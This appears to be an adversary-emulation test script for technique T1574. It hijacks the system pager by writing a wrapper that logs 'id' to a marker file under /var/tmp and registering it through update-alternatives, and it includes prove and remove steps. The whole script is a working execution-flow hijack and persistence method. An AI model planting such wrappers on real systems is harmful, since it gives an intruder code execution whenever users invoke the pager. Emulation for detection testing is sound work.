#!/bin/sh
# T1574 (quiet): The pager is a program of the intruder's
M=/var/tmp/luytre-foothold N=41-alternative
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
x() { mkdir -p "${1%/*}"; cat >"$1"; chmod 755 "$1"; }
plant() {
  x /usr/local/lib/pager/lessx <<'E'
#!/bin/sh
id > /var/tmp/luytre-foothold/41-alternative
exec /usr/bin/less "$@"
E
  update-alternatives --quiet --install /usr/bin/pager pager /usr/local/lib/pager/lessx 900
}
prove() {
  rm -f "$M/$N"
  echo x | pager >/dev/null
  seen
}
remove() {
  update-alternatives --quiet --remove pager /usr/local/lib/pager/lessx; rm -rf /usr/local/lib/pager
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
